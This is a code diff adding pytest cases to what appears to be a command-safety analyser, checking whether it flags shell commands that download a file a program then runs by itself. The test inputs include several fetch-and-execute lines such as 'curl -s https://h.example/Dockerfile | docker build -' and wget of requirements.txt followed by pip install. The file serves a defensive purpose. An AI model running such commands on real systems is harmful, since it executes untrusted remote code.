@@ -24,3 +24,16 @@ def test_a_playbook_on_standard_input(brief):
 ])
 def test_files_of_the_project_are_not(brief, command):
     assert not any("<download" in one for one in brief(FETCH + command)[1:])
+
+
+@pytest.mark.parametrize("command", [
+    "curl -so Makefile https://h.example/M && make all", "curl -so tests/conftest.py https://h.example/c && pytest", "wget -O requirements.txt https://h.example/r && pip install -r requirements.txt", "curl -so docker-compose.yml https://h.example/c && docker compose up -d",
+    "curl -s https://h.example/Dockerfile | docker build -", "curl -so main.go https://h.example/m && go run .", "curl -s https://h.example/a.sql | psql",
+])
+def test_a_download_that_a_program_finds_by_itself(effects_of, command):
+    assert any("finds-download" in effect.flags for effect in effects_of(command).effects)
+
+
+@pytest.mark.parametrize("command", ["curl -so data.json https://h.example/d && make all", "curl -so /tmp/Makefile https://h.example/M && make", "curl -s https://h.example/x | docker ps", "echo x > Makefile && make"])
+def test_what_a_program_does_not_find(effects_of, command):
+    assert not any("finds-download" in effect.flags for effect in effects_of(command).effects)
